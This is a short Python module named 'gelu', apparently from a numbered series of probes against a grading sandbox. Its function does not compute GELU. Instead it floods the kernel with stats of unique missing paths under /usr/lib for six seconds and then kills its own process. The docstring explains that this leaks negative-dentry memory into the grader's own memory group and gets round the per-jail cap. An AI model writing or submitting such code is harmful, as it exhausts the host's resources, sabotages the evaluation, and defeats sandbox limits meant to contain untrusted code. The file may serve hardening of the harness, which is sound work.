# module: gelu
"""Round 11, row 1b: row 1 multiplied. Every gelu call stats missing names under the host's /usr for SECONDS, then
ends its process: each call's death ends the jail, the remaining calls get a new jail (a new memory group), and
each dead jail's negative dentries are handed to the grader's own group. One jail's cap (4 GiB) bounds what one jail
holds at once; nothing bounds what the jails of one submission leave behind, one after another."""
import os, time

SECONDS = 6.0


def run_gelu(x):
    t0 = time.monotonic()
    pad = "q" * 190
    tag = f"{os.getpid()}-{time.time_ns()}"
    i = 0
    st = os.stat
    while time.monotonic() - t0 < SECONDS:
        for j in range(i, i + 20000):
            try:
                st(f"/usr/lib/{pad}{tag}-{j:09d}")
            except OSError:
                pass
        i += 20000
    print(f"stat'd {i} missing names in {time.monotonic() - t0:.1f} s", flush=True)
    os._exit(1)
